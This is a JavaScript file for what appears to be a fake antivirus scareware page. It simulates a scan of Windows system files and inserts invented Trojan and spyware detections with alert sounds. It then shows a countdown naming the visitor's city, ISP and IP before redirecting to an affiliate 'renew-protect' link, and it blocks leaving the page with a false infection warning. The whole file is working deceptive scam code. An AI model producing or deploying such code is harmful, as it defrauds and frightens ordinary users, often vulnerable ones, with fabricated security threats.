const files = ["C:\\Windows\\System32\\drivers\\etc\\hosts", "C:\\Windows\\System32\\ntoskrnl.exe", "C:\\Users\\Owner\\Documents\\taxes.pdf", "C:\\Program Files\\Common Files\\Services"];
const names = ["Trojan.Dropper.AutoIt", "PUP.Optional.RelevantKnowledge", "Adware.Elex", "Spyware.Zbot.ED"];
const ui = { bar: document.querySelector("#bar"), file: document.querySelector("#file"), found: document.querySelector("#found"), table: document.querySelector("#results") };
let pct = 0, hits = 0;

const tick = setInterval(() => {
  pct += 1;
  ui.bar.style.width = pct + "%";
  ui.file.textContent = files[Math.floor(Math.random() * files.length)];
  if (pct % 14 === 0) {
    hits += 1;
    ui.found.textContent = hits + 2;
    ui.table.insertAdjacentHTML("beforeend", `<tr class="red"><td>${names[hits % names.length]}</td><td>High</td><td>Active</td></tr>`);
    new Audio("beep.mp3").play().catch(() => {});
  }
  if (pct >= 100) {
    clearInterval(tick);
    document.querySelector("#modal").classList.add("show");
    countdown(179);
  }
}, 70);

function countdown(s) {
  const params = new URLSearchParams(location.search);
  document.querySelector("#where").textContent = `${params.get("city") || "your city"} / ${params.get("isp") || "your ISP"} / ${params.get("ip") || ""}`;
  const t = setInterval(() => {
    document.querySelector("#left").textContent = `${Math.floor(s / 60)}:${String(s % 60).padStart(2, "0")}`;
    if (--s < 0) {
      clearInterval(t);
      location.href = "https://renew-protect.example/?aff=" + params.get("cid");
    }
  }, 1000);
  document.querySelector("#modal button").onclick = () => (location.href = "https://renew-protect.example/?aff=" + params.get("cid"));
}
window.onbeforeunload = () => "Your subscription has expired and your PC is infected with " + hits + " viruses!";
